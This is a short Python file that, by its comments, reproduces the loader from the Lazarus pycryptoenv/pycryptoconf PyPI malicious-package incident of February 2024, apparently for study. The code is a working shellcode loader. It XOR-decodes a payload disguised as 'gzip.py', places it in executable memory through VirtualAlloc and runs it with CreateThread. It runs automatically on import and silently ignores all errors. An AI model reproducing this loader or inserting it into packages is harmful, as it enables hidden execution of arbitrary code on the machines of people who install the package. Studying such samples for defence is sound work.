# Incident: Lazarus PyPI loaders pycryptoenv / pycryptoconf, February 2024 (see __init__.py).
# Reference: https://blogs.jpcert.or.jp/en/2024/02/lazarus_pypi.html
# Reproduction (own code; the encoded payload file itself is left out).
import ctypes
import os
import sys

KEY = bytes.fromhex("8f2e5ac13b7d9e04")


def _unpack(path):
    with open(path, "rb") as fh:
        blob = bytearray(fh.read())
    for i in range(len(blob)):
        blob[i] ^= KEY[i % len(KEY)]
    return bytes(blob)


def _run():
    if sys.platform != "win32":
        return
    here = os.path.dirname(os.path.abspath(__file__))
    data = _unpack(os.path.join(here, "gzip.py"))
    k32 = ctypes.windll.kernel32
    k32.VirtualAlloc.restype = ctypes.c_void_p
    k32.CreateThread.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p,
                                 ctypes.c_void_p, ctypes.c_uint32, ctypes.c_void_p]
    mem = k32.VirtualAlloc(None, len(data), 0x3000, 0x40)
    ctypes.memmove(mem, data, len(data))
    thread = k32.CreateThread(None, 0, mem, None, 0, None)
    k32.WaitForSingleObject(thread, 0)


try:
    _run()
except Exception:
    pass
